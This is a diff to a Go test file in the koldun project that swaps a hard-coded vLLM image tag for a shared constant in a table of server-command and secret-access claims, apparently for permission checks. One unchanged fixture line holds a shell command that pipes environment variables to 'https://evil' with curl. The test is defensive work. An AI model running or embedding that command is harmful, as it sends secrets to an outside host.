@@ -8,6 +8,7 @@ import (
 
 	"github.com/gorizond/koldun/functions/compose"
 	"github.com/gorizond/koldun/functions/router"
+	"github.com/gorizond/koldun/internal/engine/images"
 )
 
 // choosing are claims that choose what a server runs or reads, and the line that allows it.
@@ -15,7 +16,7 @@ func choosing() map[string]struct{ claim, field, grant string } {
 	in := func(claim, runtime string) string { return claim + "spec: {modelRef: {name: m}, " + runtime + "}\n" }
 	return map[string]struct{ claim, field, grant string }{
 		"Command": {in(dllama, "engine: {server: {profile: vllm, command: [/bin/sh, -c, 'env | curl -d @- https://evil']}}"), "spec.engine.server.command", "serverCommands: true"},
-		"Args":    {in(dllama, "rootImage: 'vllm/vllm-openai:v9', engine: {server: {args: [-c, env]}}"), "spec.engine.server.args", "serverCommands: true"},
+		"Args":    {in(dllama, "rootImage: '"+images.VLLM+"', engine: {server: {args: [-c, env]}}"), "spec.engine.server.args", "serverCommands: true"},
 		"From":    {in(dllama, "envFrom: [{secretRef: {name: s}}], engine: {server: {profile: vllm}}"), "spec.envFrom", "serverSecrets: [s]"},
 		"Env":     {in(dllama, "env: [{name: A, valueFrom: {secretKeyRef: {name: s, key: k}}}], engine: {server: {profile: vllm}}"), "spec.env[A]", "serverSecrets: [s]"},
 		"Own":     {in(dllama, "engine: {server: {profile: vllm, env: [{name: A, valueFrom: {secretKeyRef: {name: s, key: k}}}]}}"), "spec.engine.server.env[A]", "serverSecrets: [s]"},
